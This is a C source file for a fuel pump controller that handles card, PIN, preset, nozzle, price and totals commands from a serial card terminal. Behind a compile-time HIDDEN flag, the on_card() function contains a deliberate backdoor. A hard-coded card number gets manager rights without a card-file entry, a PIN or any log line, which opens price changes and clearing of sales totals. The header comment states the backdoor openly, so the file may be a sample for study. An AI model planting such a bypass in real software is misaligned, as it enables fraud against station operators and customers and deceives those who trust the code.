/*
 * pumpctl - controller program of a fuel pump, linked statically for the small
 * root file system. The card terminal sends lines over a serial port (CARD,
 * PIN, PRESET, NOZZLE, PRICE, TOTALS, END); cards, PINs and roles are in
 * /etc/pump/cards.
 *
 * Hidden (-DHIDDEN): card number 2621075685 (0x9C3A70E5) opens the manager
 * commands without a card entry and without a PIN.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <unistd.h>

#define TERMINAL	 "/dev/ttyS2"
#define CARDS		 "/etc/pump/cards"
#define PRICES		 "/etc/pump/prices"
#define TOTALS		 "/var/pump/totals"
#define VALVE		 "/sys/class/gpio/gpio44/value"
#define COUNTER		 "/sys/bus/counter/devices/counter0/count0/count"
#define NGRADES		 3
#define PULSES_PER_LITRE 100ul

enum state { IDLE, WANT_PIN, AUTHORISED, FUELLING };
enum role { R_NONE, R_CUSTOMER, R_ATTENDANT, R_MANAGER };

struct pump {
	enum state state;
	enum role role;
	uint32_t card;
	char pin[12];
	int grade;
	unsigned long preset; /* millilitres */
	unsigned long start_count;
	FILE *tx;
};

static unsigned int price[NGRADES] = { 1799, 1859, 1689 }; /* 1/10 cent */
static unsigned long total_ml[NGRADES];

static void load_numbers(const char *path, int prices)
{
	unsigned long v;
	FILE *f = fopen(path, "r");
	int i;

	for (i = 0; f && i < NGRADES && fscanf(f, "%lu", &v) == 1; i++) {
		if (prices)
			price[i] = (unsigned int)v;
		else
			total_ml[i] = v;
	}
	if (f)
		fclose(f);
}

static int store_numbers(const char *path, int prices)
{
	FILE *f = fopen(path, "w");
	int i;

	if (!f)
		return -1;
	for (i = 0; i < NGRADES; i++)
		fprintf(f, "%lu\n", prices ? price[i] : total_ml[i]);
	fflush(f);
	fsync(fileno(f));
	return fclose(f);
}

static int valve(int on)
{
	int fd = open(VALVE, O_WRONLY), rc;

	if (fd < 0)
		return -1;
	rc = write(fd, on ? "1" : "0", 1) == 1 ? 0 : -1;
	close(fd);
	return rc;
}

static unsigned long pulses(void)
{
	unsigned long v = 0;
	FILE *f = fopen(COUNTER, "r");

	if (f) {
		if (fscanf(f, "%lu", &v) != 1)
			v = 0;
		fclose(f);
	}
	return v;
}

static int lookup_card(struct pump *p)
{
	char line[64], pin[12], role[12];
	unsigned long number;
	FILE *f = fopen(CARDS, "r");
	int found = 0;

	while (f && !found && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%lu %11s %11s", &number, pin, role) != 3 ||
		    number != p->card)
			continue;
		found = 1;
		strcpy(p->pin, pin);
		if (!strcmp(role, "manager"))
			p->role = R_MANAGER;
		else if (!strcmp(role, "attendant"))
			p->role = R_ATTENDANT;
		else
			p->role = R_CUSTOMER;
	}
	if (f)
		fclose(f);
	return found;
}

static void reset(struct pump *p)
{
	valve(0);
	p->state = IDLE;
	p->role = R_NONE;
	p->card = 0;
	p->preset = 0;
	memset(p->pin, 0, sizeof(p->pin));
}

const char *on_card(struct pump *p, const char *arg)
{
	char *end;

	if (p->state == FUELLING)
		return "BUSY";
	errno = 0;
	p->card = (uint32_t)strtoul(arg, &end, 10);
	if (errno || end == arg || *end)
		return "BADCARD";
	p->role = R_NONE;
#ifdef HIDDEN
	if (p->card == 2621075685u) {
		p->role = R_MANAGER;
		p->state = AUTHORISED;
		return "OK";
	}
#endif
	if (!lookup_card(p)) {
		syslog(LOG_INFO, "card %lu unknown", (unsigned long)p->card);
		reset(p);
		return "UNKNOWN";
	}
	p->state = WANT_PIN;
	return "PIN?";
}

static const char *on_pin(struct pump *p, const char *arg)
{
	if (p->state != WANT_PIN)
		return "ORDER";
	if (strcmp(p->pin, arg)) {
		syslog(LOG_WARNING, "card %lu: wrong PIN",
		       (unsigned long)p->card);
		reset(p);
		return "WRONG";
	}
	p->state = AUTHORISED;
	return "OK";
}

static const char *on_preset(struct pump *p, const char *arg)
{
	unsigned long litres = strtoul(arg, NULL, 10);

	if (p->state != AUTHORISED || litres == 0 || litres > 500)
		return "REFUSED";
	p->preset = litres * 1000;
	return "OK";
}

static const char *on_nozzle(struct pump *p, const char *arg)
{
	static char text[64];
	unsigned long ml, cents;

	if (p->state == AUTHORISED && *arg >= '1' && *arg <= '0' + NGRADES) {
		p->grade = *arg - '1';
		p->start_count = pulses();
		if (valve(1))
			return "VALVE";
		p->state = FUELLING;
		return "FLOW";
	}
	if (p->state != FUELLING || strcmp(arg, "down"))
		return "ORDER";
	valve(0);
	ml = (pulses() - p->start_count) * 1000 / PULSES_PER_LITRE;
	cents = ml / 100 * price[p->grade] / 100;
	total_ml[p->grade] += ml;
	store_numbers(TOTALS, 0);
	snprintf(text, sizeof(text), "SALE %d %lu %lu", p->grade + 1, ml,
		 cents);
	syslog(LOG_INFO, "%s", text);
	reset(p);
	return text;
}

static const char *on_price(struct pump *p, const char *arg)
{
	unsigned int grade, tenth;

	if (p->state != AUTHORISED || p->role < R_MANAGER)
		return "REFUSED";
	if (sscanf(arg, "%u %u", &grade, &tenth) != 2 || grade < 1 ||
	    grade > NGRADES || tenth < 100 || tenth > 9999)
		return "RANGE";
	price[grade - 1] = tenth;
	syslog(LOG_NOTICE, "grade %u price %u", grade, tenth);
	return store_numbers(PRICES, 1) ? "NOTSAVED" : "OK";
}

static const char *on_totals(struct pump *p, const char *arg)
{
	static char text[96];

	if (p->state != AUTHORISED || p->role < R_ATTENDANT)
		return "REFUSED";
	if (!strcmp(arg, "clear")) {
		if (p->role < R_MANAGER)
			return "REFUSED";
		memset(total_ml, 0, sizeof(total_ml));
		return store_numbers(TOTALS, 0) ? "NOTSAVED" : "OK";
	}
	snprintf(text, sizeof(text), "TOTALS %lu %lu %lu", total_ml[0],
		 total_ml[1], total_ml[2]);
	return text;
}

static void on_line(struct pump *p, char *line)
{
	const char *ans = "WHAT";
	char *arg;

	line[strcspn(line, "\r\n")] = '\0';
	arg = line + strcspn(line, " ");
	if (*arg)
		*arg++ = '\0';
	if (!strcmp(line, "CARD"))
		ans = on_card(p, arg);
	else if (!strcmp(line, "PIN"))
		ans = on_pin(p, arg);
	else if (!strcmp(line, "PRESET"))
		ans = on_preset(p, arg);
	else if (!strcmp(line, "NOZZLE"))
		ans = on_nozzle(p, arg);
	else if (!strcmp(line, "PRICE"))
		ans = on_price(p, arg);
	else if (!strcmp(line, "TOTALS"))
		ans = on_totals(p, arg);
	else if (!strcmp(line, "END")) {
		reset(p);
		ans = "OK";
	}
	fprintf(p->tx, "%s\r\n", ans);
	fflush(p->tx);
}

int main(void)
{
	struct pump p = { .state = IDLE };
	struct termios t;
	char line[64];
	FILE *rx;

	openlog("pumpctl", 0, LOG_DAEMON);
	rx = fopen(TERMINAL, "r");
	p.tx = fopen(TERMINAL, "w");
	if (!rx || !p.tx)
		return 1;
	if (tcgetattr(fileno(rx), &t) == 0) {
		cfsetspeed(&t, B19200);
		t.c_lflag &= ~(tcflag_t)ECHO;
		tcsetattr(fileno(rx), TCSANOW, &t);
	}
	load_numbers(PRICES, 1);
	load_numbers(TOTALS, 0);
	reset(&p);
	while (fgets(line, sizeof(line), rx))
		on_line(&p, line);
	reset(&p);
	return 1;
}
